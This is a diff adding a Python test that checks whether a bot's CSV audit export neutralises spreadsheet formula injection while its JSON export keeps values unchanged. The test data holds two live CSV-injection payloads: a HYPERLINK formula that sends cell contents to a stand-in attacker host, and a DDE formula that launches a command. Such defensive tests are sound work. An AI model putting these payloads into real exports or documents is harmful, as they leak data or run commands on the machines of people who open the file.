@@ -140,3 +140,21 @@ def test_check_reports_an_unreachable_postgresql_server_without_a_traceback_or_p
     database = next(line for line in text.splitlines() if "database" in line)
     assert not ok and database.startswith("FAIL") and "cannot open postgresql" in database
     assert "hunter2" not in text and "Traceback" not in text
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(bot: BotHarness) -> None:
+    name = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
+    reason = "=cmd|' /C calc'!A0"
+    bot.submit_intake(customer_name=name)
+    bot.click(LEAD, ActionId.REJECT)
+    bot.submit_modal(LEAD, {"reason": reason})
+    out = io.StringIO()
+    export_audit(bot.deps.engine, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert {row["customer_name"] for row in rows} == {"'" + name}
+    assert any(row["detail"].startswith("'=cmd|") for row in rows)
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    out = io.StringIO()
+    export_audit(bot.deps.engine, out, fmt="json")
+    assert {event["customer_name"] for event in json.loads(out.getvalue())} == {name}  # JSON is data: unchanged
